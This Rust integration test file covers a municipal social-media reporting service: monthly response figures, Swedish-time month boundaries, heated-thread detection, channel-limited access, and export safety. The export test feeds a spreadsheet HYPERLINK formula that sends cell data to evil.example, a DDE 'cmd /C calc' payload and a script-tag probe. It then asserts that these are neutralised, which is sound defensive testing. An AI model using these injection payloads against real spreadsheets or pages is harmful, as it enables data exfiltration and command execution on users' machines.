//! Follow-up reports: a known month of messages, replies, resolutions and cases gives exactly the
//! hand-computed figures; months end at midnight Swedish time; CSV cells cannot run as formulas;
//! the HTML page is escaped and strict; staff limited to channels see only theirs.

use serde_json::{json, Value};

use crate::helpers::{conversation_of, ingest, TestApp};
use crate::on_both_backends;

const KOMMUN: &str = "810000000000001";
const SKOLAN: &str = "810000000000002";

fn ms(rfc3339: &str) -> i64 {
    chrono::DateTime::parse_from_rfc3339(rfc3339)
        .unwrap()
        .timestamp_millis()
}

/// A normalised message: (id, page, kind, direction, person or page, text, time, post).
#[allow(clippy::too_many_arguments)]
fn msg(
    id: &str,
    page: &str,
    kind: &str,
    direction: &str,
    who: &str,
    text: &str,
    time: &str,
    post: Option<&str>,
) -> Value {
    json!({"platform": "facebook", "channel": page, "kind": kind, "direction": direction, "id": id,
        "author": {"id": who}, "text": text, "time": time, "post_id": post})
}

async fn id_of(app: &TestApp, sql: &str, bind: &str) -> i64 {
    sqlx::query_scalar(sql)
        .bind(bind)
        .fetch_one(&app.store.pool)
        .await
        .unwrap()
}

/// Changes a conversation's status through the API, then dates the change (the API records now).
async fn status_at(app: &TestApp, agent: &str, conversation: i64, status: &str, at: &str) {
    let r = app
        .post(
            agent,
            &format!("/api/v1/conversations/{conversation}/status"),
            json!({"status": status}),
        )
        .await;
    assert_eq!(r.status(), 200);
    sqlx::query(
        "update events set created_at = $1 where conversation_id = $2 and kind = 'conversation.status_changed'",
    )
    .bind(ms(at))
    .bind(conversation)
    .execute(&app.store.pool)
    .await
    .unwrap();
}

fn figure(report: &Value, channel: &str, kind: &str, metric: &str) -> Value {
    let row = report["channels"]
        .as_array()
        .unwrap()
        .iter()
        .find(|r| r["channel_name"] == channel && r["kind"] == kind)
        .unwrap_or_else(|| panic!("no row for {channel} {kind}: {report}"));
    row["figures"][metric].clone()
}

fn f(value: Value, previous: Value) -> Value {
    json!({"value": value, "previous": previous})
}

/// September and October 2026 on two channels: direct messages, a comment thread, resolutions,
/// a conversation waiting on the person and a moderation case with a police report.
async fn known_months(app: &TestApp) -> (String, String) {
    app.register_channel("facebook", KOMMUN, "Kommunen").await;
    app.register_channel("facebook", SKOLAN, "Skolan").await;
    let admin = app.token("admin", "admin").await;
    let agent = app.token("agent", "agent").await;
    let dm = |id: &str, dir: &str, who: &str, text: &str, t: &str| {
        msg(id, KOMMUN, "dm", dir, who, text, t, None)
    };
    ingest(
        app,
        &admin,
        vec![
            // p1: answered in 30 minutes; next day two messages answered after 10 hours.
            dm(
                "d1",
                "inbound",
                "p1",
                "Hej, var hämtar jag soppåsar?",
                "2026-10-05T08:00:00Z",
            ),
            dm(
                "d2",
                "outbound",
                "p1",
                "I receptionen.",
                "2026-10-05T08:30:00Z",
            ),
            dm(
                "d3",
                "inbound",
                "p1",
                "Och tidningspapper?",
                "2026-10-06T08:00:00Z",
            ),
            dm("d4", "inbound", "p1", "Hallå?", "2026-10-06T08:10:00Z"),
            dm(
                "d5",
                "outbound",
                "p1",
                "Återvinningen.",
                "2026-10-06T18:00:00Z",
            ),
            // p2: five minutes. p3: never answered.
            dm(
                "d6",
                "inbound",
                "p2",
                "Har biblioteket öppet i dag?",
                "2026-10-07T09:00:00Z",
            ),
            dm(
                "d7",
                "outbound",
                "p2",
                "Ja, till 19.",
                "2026-10-07T09:05:00Z",
            ),
            dm(
                "d8",
                "inbound",
                "p3",
                "Kan ni ringa mig?",
                "2026-10-08T10:00:00Z",
            ),
            // p4: 23:30 on 31 October (winter time) is October; answered 2 hours later, in November.
            dm(
                "d9",
                "inbound",
                "p4",
                "Är återvinningen öppen i morgon?",
                "2026-10-31T23:30:00+01:00",
            ),
            dm("d10", "outbound", "p4", "Ja.", "2026-11-01T01:30:00+01:00"),
            // p5: 23:30 on 30 September (summer time) is September; its answer is in October.
            dm(
                "d11",
                "inbound",
                "p5",
                "Hur söker jag bygglov?",
                "2026-09-30T23:30:00+02:00",
            ),
            dm(
                "d12",
                "outbound",
                "p5",
                "På webben.",
                "2026-10-01T00:30:00+02:00",
            ),
        ],
    )
    .await;
    let c = |id: &str, dir: &str, who: &str, text: &str, t: &str| {
        msg(
            id,
            SKOLAN,
            "comment",
            dir,
            who,
            text,
            t,
            Some("skolan_post"),
        )
    };
    ingest(
        app,
        &admin,
        vec![
            c(
                "c0",
                "inbound",
                "k0",
                "När öppnar simhallen igen?",
                "2026-09-15T10:00:00Z",
            ),
            c(
                "c1",
                "inbound",
                "k1",
                "När öppnar simhallen igen?",
                "2026-10-10T10:00:00Z",
            ),
            c(
                "c2",
                "inbound",
                "k2",
                "När öppnar simhallen igen efter renoveringen?",
                "2026-10-10T10:05:00Z",
            ),
            c(
                "c3",
                "outbound",
                SKOLAN,
                "Den 1 december!",
                "2026-10-10T11:00:00Z",
            ),
            c(
                "c4",
                "inbound",
                "k3",
                "När öppnar simhallen igen i höst?",
                "2026-10-12T10:00:00Z",
            ),
        ],
    )
    .await;
    // Resolutions: p1 on 6 October 20:00 UTC (36 hours after its first message), p2 after an hour.
    let p1 = conversation_of(app, "d1").await;
    let p2 = conversation_of(app, "d6").await;
    let p3 = conversation_of(app, "d8").await;
    status_at(app, &agent, p1, "resolved", "2026-10-06T20:00:00Z").await;
    status_at(app, &agent, p2, "resolved", "2026-10-07T10:00:00Z").await;
    // p3 was asked for more and has not written since: waiting on the person at the month's end.
    status_at(app, &agent, p3, "waiting", "2026-10-09T00:00:00Z").await;

    // A harassing comment reported, acted on after 30 minutes and reported to the police.
    ingest(
        app,
        &admin,
        vec![c(
            "c5",
            "inbound",
            "troll",
            "Rektorn borde skämmas, jag vet var hon bor",
            "2026-10-20T10:00:00Z",
        )],
    )
    .await;
    let communicator = app.token("comm", "communicator").await;
    let moderator = app.token("mod", "moderator").await;
    let c5 = id_of(app, "select id from messages where platform_id = $1", "c5").await;
    let r = app
        .post(
            &communicator,
            &format!("/api/v1/messages/{c5}/report"),
            json!({"reason": "hot mot rektorn", "level": "S3"}),
        )
        .await;
    assert_eq!(r.status(), 201);
    let case: i64 = r.json::<Value>().await.unwrap()["case_id"]
        .as_i64()
        .unwrap();
    let r = app
        .post(
            &moderator,
            &format!("/api/v1/moderation/cases/{case}/steps"),
            json!({"step": "police_report", "reference": "5000-K123456-26"}),
        )
        .await;
    assert_eq!(r.status(), 201);
    sqlx::query("update moderation_cases set opened_at = $1 where id = $2")
        .bind(ms("2026-10-20T10:01:00Z"))
        .bind(case)
        .execute(&app.store.pool)
        .await
        .unwrap();
    sqlx::query("update moderation_steps set at = $1 where case_id = $2")
        .bind(ms("2026-10-20T10:30:00Z"))
        .bind(case)
        .execute(&app.store.pool)
        .await
        .unwrap();
    (admin, communicator)
}

/// Waits until the FAQ follower has clustered the month's questions.
async fn report_with_faq(app: &TestApp, token: &str, period: &str) -> Value {
    for _ in 0..100 {
        let v = app
            .get_json(token, &format!("/api/v1/reports?period={period}"))
            .await;
        if v["faq"][0]["count"]["value"].as_i64().unwrap_or(0) >= 3 {
            return v;
        }
        tokio::time::sleep(std::time::Duration::from_millis(50)).await;
    }
    panic!("the FAQ cluster did not reach three questions");
}

on_both_backends!(
    a_known_month_gives_the_hand_computed_figures,
    |app: TestApp| async move {
        let (admin, communicator) = known_months(&app).await;
        let report = report_with_faq(&app, &communicator, "2026-10").await;
        assert_eq!(report["period"]["label"], "2026-10");
        assert_eq!(report["previous_period"]["label"], "2026-09");
        assert_eq!(report["period"]["start"], ms("2026-10-01T00:00:00+02:00"));
        assert_eq!(report["period"]["end"], ms("2026-11-01T00:00:00+01:00"));

        let dm = |m: &str| figure(&report, "Kommunen", "dm", m);
        // d1 d3 d4 d6 d8 d9 (d9 at 23:30 on 31 October); September: d11 at 23:30 on 30 September.
        assert_eq!(dm("inbound"), f(json!(6), json!(1)));
        // d2 d5 d7 and d12 (00:30 on 1 October); d10 is November's.
        assert_eq!(dm("replies"), f(json!(4), json!(0)));
        // Waits: d1, d3 (d4 continues it), d6, d8, d9.
        assert_eq!(dm("questions"), f(json!(5), json!(1)));
        assert_eq!(dm("answered"), f(json!(4), json!(1)));
        // 300, 1800, 7200, 36000 seconds: median 4500, nearest-rank p90 36000.
        assert_eq!(
            dm("first_response_median_seconds"),
            f(json!(4500), json!(3600))
        );
        assert_eq!(
            dm("first_response_p90_seconds"),
            f(json!(36000), json!(3600))
        );
        // Within 8 hours: 3 of 5 questions (the unanswered one counts against).
        assert_eq!(dm("within_service_level"), f(json!(0.6), json!(1)));
        // p1 resolved 36 hours after d1, p2 one hour after d6.
        assert_eq!(dm("resolved"), f(json!(2), json!(0)));
        assert_eq!(
            dm("resolution_median_seconds"),
            f(json!(66600), Value::Null)
        );
        assert_eq!(dm("resolution_p90_seconds"), f(json!(129600), Value::Null));
        assert_eq!(dm("waiting_on_person"), f(json!(1), json!(0)));

        let comments = |m: &str| figure(&report, "Skolan", "comments", m);
        assert_eq!(comments("inbound"), f(json!(4), json!(1)));
        assert_eq!(comments("replies"), f(json!(1), json!(0)));
        // c1 (c2 continues it) answered after an hour; c4 unanswered (c5 continues it);
        // September's c0 unanswered.
        assert_eq!(comments("questions"), f(json!(2), json!(1)));
        assert_eq!(
            comments("first_response_median_seconds"),
            f(json!(3600), Value::Null)
        );
        assert_eq!(comments("within_service_level"), f(json!(0.5), json!(0)));
        assert!(report["channels"]
            .as_array()
            .unwrap()
            .iter()
            .all(|r| !(r["channel_name"] == "Kommunen" && r["kind"] == "comments")));
        let dm_total = report["totals"]
            .as_array()
            .unwrap()
            .iter()
            .find(|r| r["kind"] == "dm")
            .unwrap();
        assert_eq!(dm_total["figures"]["inbound"], f(json!(6), json!(1)));

        // Heat map, Swedish time: Monday 10:00 (d1), Tuesday 10:00 (d3, d4), Saturday 23:00 (d9);
        // September: Wednesday 23:00 (d11).
        let heat = &report["heatmap"]["dm"];
        assert_eq!(heat["value"][0][10], 1);
        assert_eq!(heat["value"][1][10], 2);
        assert_eq!(heat["value"][5][23], 1);
        assert_eq!(heat["previous"][2][23], 1);
        let total: i64 = heat["value"]
            .as_array()
            .unwrap()
            .iter()
            .flat_map(|d| d.as_array().unwrap().iter().map(|v| v.as_i64().unwrap()))
            .sum();
        assert_eq!(total, 6);

        // The swimming-pool question: three times in October, once in September, not answered.
        let top = &report["faq"][0];
        assert_eq!(top["count"], f(json!(3), json!(1)));
        assert_eq!(top["people"], 3);
        assert_eq!(top["change"], 2);
        assert_eq!(top["answered"], false);

        let m = &report["moderation"];
        assert_eq!(m["cases"], f(json!(1), json!(0)));
        assert_eq!(m["by_level"]["S3"], f(json!(1), json!(0)));
        assert_eq!(m["by_level"]["S4"], f(json!(0), json!(0)));
        assert_eq!(m["by_category"]["reported"], f(json!(1), json!(0)));
        assert_eq!(m["police_reports"], f(json!(1), json!(0)));
        assert_eq!(m["hidden_off_hours"], f(json!(0), json!(0)));
        // From the comment at 10:00 to the moderator's step at 10:30.
        assert_eq!(
            m["time_to_action_median_seconds"],
            f(json!(1800), Value::Null)
        );

        // Answering the question shows in the next report; the reading is audited.
        let cluster = top["cluster_id"].as_i64().unwrap();
        let r = app
            .client
            .patch(app.url(&format!("/api/v1/faq/clusters/{cluster}")))
            .bearer_auth(&communicator)
            .json(&json!({"answered_url": "https://kommunen.se/simhallen"}))
            .send()
            .await
            .unwrap();
        assert_eq!(r.status(), 200);
        let again = app.get_json(&admin, "/api/v1/reports?period=2026-10").await;
        assert_eq!(again["faq"][0]["answered"], true);
        let audited: i64 =
            sqlx::query_scalar("select count(*) from audit where action = 'report.read'")
                .fetch_one(&app.store.pool)
                .await
                .unwrap();
        assert!(audited >= 2);

        // September on its own: the 23:30 message of its last evening is its own.
        let september = app.get_json(&admin, "/api/v1/reports?period=2026-09").await;
        let sept_dm = figure(&september, "Kommunen", "dm", "inbound");
        assert_eq!(sept_dm, f(json!(1), json!(0)));

        // The quarter: July to September, against April to June.
        let q3 = app.get_json(&admin, "/api/v1/reports?period=2026Q3").await;
        assert_eq!(q3["period"]["start"], ms("2026-07-01T00:00:00+02:00"));
        assert_eq!(
            figure(&q3, "Kommunen", "dm", "inbound"),
            f(json!(1), json!(0))
        );
        let q4 = app.get_json(&admin, "/api/v1/reports?period=2026Q4").await;
        assert_eq!(
            figure(&q4, "Kommunen", "dm", "inbound"),
            f(json!(6), json!(1))
        );
        // d10 (1 November) is in the fourth quarter's replies.
        assert_eq!(
            figure(&q4, "Kommunen", "dm", "replies"),
            f(json!(5), json!(0))
        );

        // Nothing ranks staff: no staff member's name or id appears in the report.
        let text = again.to_string();
        assert!(!text.contains("agent") && !text.contains("sent_by"));
    }
);

/// Comments on one post of Skolan's, at the given UTC times, all saying the same thing.
fn comments_at(prefix: &str, post: &str, text: &str, times: &[String]) -> Vec<Value> {
    times
        .iter()
        .enumerate()
        .map(|(i, t)| {
            msg(
                &format!("{prefix}{i}"),
                SKOLAN,
                "comment",
                "inbound",
                &format!("{prefix}-person-{i}"),
                text,
                t,
                Some(post),
            )
        })
        .collect()
}

on_both_backends!(
    a_thread_that_caught_fire_is_reported_with_its_post,
    |app: TestApp| async move {
        app.register_channel("facebook", SKOLAN, "Skolan").await;
        let admin = app.token("admin", "admin").await;
        let communicator = app.token("comm", "communicator").await;
        let post = format!("{SKOLAN}_900");
        // The page's post that started it, with a telephone number that must not reach a report.
        let body = json!({"object": "page", "entry": [{"id": SKOLAN, "time": ms("2026-10-14T08:00:00Z"),
            "changes": [{"field": "feed", "value": {"item": "status", "verb": "add", "post_id": post,
            "from": {"id": SKOLAN}, "message": "Biblioteket i Norrby stänger i januari. Frågor: ring 070-123 45 67.",
            "created_time": ms("2026-10-14T08:00:00Z") / 1000}}]}]});
        let r = app.webhook(&serde_json::to_vec(&body).unwrap()).await;
        assert_eq!(r.status(), 200);
        let hours = |day: &str, times: &[&str]| -> Vec<String> {
            times
                .iter()
                .map(|t| format!("2026-10-{day}T{t}:00Z"))
                .collect()
        };
        let mut messages = Vec::new();
        // The day before: four comments, 10:00 to 16:00 UTC.
        messages.extend(comments_at(
            "calm",
            &post,
            "Tråkigt, men jag förstår.",
            &hours("14", &["10:00", "12:00", "14:00", "16:00"]),
        ));
        // 09:00 the next morning: twelve in one hour, at least ten and three times the thread's
        // average over the day before (4/24 an hour, counted as at least 1).
        let fire: Vec<String> = (0..12)
            .map(|i| format!("2026-10-15T09:{:02}:00Z", i * 4))
            .collect();
        messages.extend(comments_at(
            "fire",
            &post,
            "Varför stänger ni biblioteket?",
            &fire,
        ));
        // 14:00: six comments, two of them insults (triage S2): hostile, though not a jump.
        let hostile: Vec<String> = (0..6)
            .map(|i| format!("2026-10-15T14:{:02}:00Z", i * 5))
            .collect();
        let (insults, rest) = hostile.split_at(2);
        messages.extend(comments_at("insult", &post, "din jävla idiot", insults));
        messages.extend(comments_at("angry", &post, "Det här är fel beslut.", rest));
        ingest(&app, &admin, messages).await;
        // Triage flags the insults as the messages are followed.
        for _ in 0..200 {
            let flagged: i64 =
                sqlx::query_scalar("select count(*) from message_flags where severity >= 'S2'")
                    .fetch_one(&app.store.pool)
                    .await
                    .unwrap();
            if flagged >= 2 {
                break;
            }
            tokio::time::sleep(std::time::Duration::from_millis(50)).await;
        }

        let report = app
            .get_json(&communicator, "/api/v1/reports?period=2026-10")
            .await;
        assert_eq!(
            report["moderation"]["heated_threads"],
            f(json!(1), json!(0))
        );
        let heated = report["heated"].as_array().unwrap();
        assert_eq!(heated.len(), 1, "{report}");
        let thread = &heated[0];
        assert_eq!(thread["channel_name"], "Skolan");
        assert_eq!(thread["post_platform_id"], post.as_str());
        let excerpt = thread["post_excerpt"].as_str().unwrap();
        assert!(
            excerpt.starts_with("Biblioteket i Norrby stänger"),
            "{excerpt}"
        );
        assert!(
            !excerpt.contains("070-123"),
            "personal data masked: {excerpt}"
        );
        // The busiest heated hour: 09:00 with 12 comments against 4 over the day before.
        assert_eq!(thread["peak_hour_start"], ms("2026-10-15T09:00:00Z"));
        assert_eq!(thread["peak_comments"], 12);
        assert_eq!(thread["baseline_per_hour"], json!(0.17));
        assert_eq!(thread["peak_flagged"], 0);
        // 09:00 (the jump) and 14:00 (two of six flagged); the day before was calm.
        assert_eq!(thread["heated_hours"], 2);
        assert_eq!(thread["comments"], 22);

        // September had no fire, and the quarter sees the same thread.
        let september = app.get_json(&admin, "/api/v1/reports?period=2026-09").await;
        assert_eq!(september["heated"], json!([]));
        let q4 = app.get_json(&admin, "/api/v1/reports?period=2026Q4").await;
        assert_eq!(q4["heated"][0]["peak_comments"], 12);
        assert_eq!(q4["heated"][0]["heated_hours"], 2);
    }
);

on_both_backends!(
    a_channel_limited_reader_sees_only_their_channels,
    |app: TestApp| async move {
        let (admin, _) = known_months(&app).await;
        let (limited_id, limited) = app.untrained_token("limited", "communicator").await;
        app.train(limited_id, "all").await;
        let skolan = id_of(&app, "select id from channels where name = $1", "Skolan").await;
        let r = app
            .client
            .patch(app.url(&format!("/api/v1/staff/{limited_id}")))
            .bearer_auth(&admin)
            .json(&json!({"channels": [skolan]}))
            .send()
            .await
            .unwrap();
        assert_eq!(r.status(), 200);
        let report = app
            .get_json(&limited, "/api/v1/reports?period=2026-10")
            .await;
        let names: Vec<&str> = report["channels"]
            .as_array()
            .unwrap()
            .iter()
            .map(|r| r["channel_name"].as_str().unwrap())
            .collect();
        assert_eq!(names, ["Skolan"]);
        assert_eq!(report["scope"], json!([skolan]));
        assert!(report["heatmap"]["dm"]["value"]
            .as_array()
            .unwrap()
            .iter()
            .flat_map(|d| d.as_array().unwrap())
            .all(|v| v == 0));
        let dm_totals = report["totals"]
            .as_array()
            .unwrap()
            .iter()
            .filter(|r| r["kind"] == "dm")
            .count();
        assert_eq!(dm_totals, 0);
        // The CSV and the HTML page hold the same limit.
        let csv = app
            .get(&limited, "/api/v1/reports?period=2026-10&format=csv")
            .await
            .text()
            .await
            .unwrap();
        assert!(csv.contains("Skolan") && !csv.contains("Kommunen"));
    }
);

on_both_backends!(
    csv_cells_cannot_run_and_html_is_escaped_and_strict,
    |app: TestApp| async move {
        let hostile = "=HYPERLINK(\"https://evil.example/?\"&A1,\"klicka\")";
        app.register_channel("facebook", KOMMUN, hostile).await;
        app.register_channel("facebook", SKOLAN, "<script>alert(1)</script>")
            .await;
        let admin = app.token("admin", "admin").await;
        let auditor = app.token("auditor", "auditor").await;
        ingest(
            &app,
            &admin,
            vec![
                msg(
                    "h1",
                    KOMMUN,
                    "dm",
                    "inbound",
                    "p1",
                    "Hej",
                    "2026-10-05T08:00:00Z",
                    None,
                ),
                msg(
                    "h2",
                    SKOLAN,
                    "comment",
                    "inbound",
                    "p2",
                    "@SUM(1+1)*cmd|' /C calc'!A0 ringer 070-123 45 67?",
                    "2026-10-05T08:00:00Z",
                    Some("<b>post</b>"),
                ),
                msg(
                    "h3",
                    SKOLAN,
                    "comment",
                    "inbound",
                    "p3",
                    "+46 70 123 45 67 vad gäller?",
                    "2026-10-05T08:01:00Z",
                    Some("<b>post</b>"),
                ),
            ],
        )
        .await;

        let r = app
            .get(&auditor, "/api/v1/reports?period=2026-10&format=csv")
            .await;
        assert_eq!(r.status(), 200);
        assert!(r.headers()["content-type"]
            .to_str()
            .unwrap()
            .starts_with("text/csv"));
        assert!(r.headers()["content-disposition"]
            .to_str()
            .unwrap()
            .starts_with("attachment"));
        let csv = r.text().await.unwrap();
        let mut lines = csv.split("\r\n");
        assert_eq!(
            lines.next(),
            Some("section,channel,kind,metric,value,previous")
        );
        // The channel name is quoted (it has commas and quotes) and starts with a single quote.
        let expected = "channel,\"'=HYPERLINK(\"\"https://evil.example/?\"\"&A1,\"\"klicka\"\")\",dm,inbound,1,0";
        assert!(csv.contains(expected), "{csv}");
        for line in csv.split("\r\n").filter(|l| !l.is_empty()) {
            for cell in split_csv(line) {
                assert!(
                    !cell.starts_with(['=', '+', '-', '@', '\t', '\r']),
                    "a live formula cell {cell:?} in {line:?}"
                );
            }
        }

        // Accept decides without format=; HTML has its own policy and escapes every name.
        let r = app
            .client
            .get(app.url("/api/v1/reports?period=2026-10&lang=en"))
            .bearer_auth(&auditor)
            .header("accept", "text/html")
            .send()
            .await
            .unwrap();
        assert_eq!(r.status(), 200);
        let csp = r.headers()["content-security-policy"]
            .to_str()
            .unwrap()
            .to_string();
        assert!(
            csp.starts_with("default-src 'none'; style-src 'sha256-"),
            "{csp}"
        );
        assert!(!csp.contains("unsafe-inline") && !csp.contains("script-src"));
        let html = r.text().await.unwrap();
        assert!(html.starts_with("<!doctype html><html lang=\"en\">"));
        assert!(html.contains("&lt;script&gt;alert(1)&lt;/script&gt;"));
        assert!(!html.contains("<script"));
        assert!(html.contains("<svg") && html.contains("@media print"));
        assert!(html.contains("Direct messages"));
        let sv = app
            .get(&auditor, "/api/v1/reports?period=2026-10&format=html")
            .await
            .text()
            .await
            .unwrap();
        assert!(sv.contains("lang=\"sv\"") && sv.contains("Direktmeddelanden"));

        // Bad periods and formats say what to do.
        for bad in [
            "period=2026-13",
            "period=oktober",
            "period=2026-10&format=xlsx",
            "period=2026-10&lang=de",
        ] {
            let r = app.get(&auditor, &format!("/api/v1/reports?{bad}")).await;
            assert_eq!(r.status(), 400, "{bad}");
        }
    }
);

/// Cells of one CSV line (RFC 4180), unquoted.
pub(crate) fn split_csv(line: &str) -> Vec<String> {
    let mut cells = vec![String::new()];
    let mut quoted = false;
    let mut chars = line.chars().peekable();
    while let Some(c) = chars.next() {
        match (c, quoted) {
            ('"', true) if chars.peek() == Some(&'"') => {
                chars.next();
                cells.last_mut().unwrap().push('"');
            }
            ('"', _) => quoted = !quoted,
            (',', false) => cells.push(String::new()),
            (c, _) => cells.last_mut().unwrap().push(c),
        }
    }
    cells
}
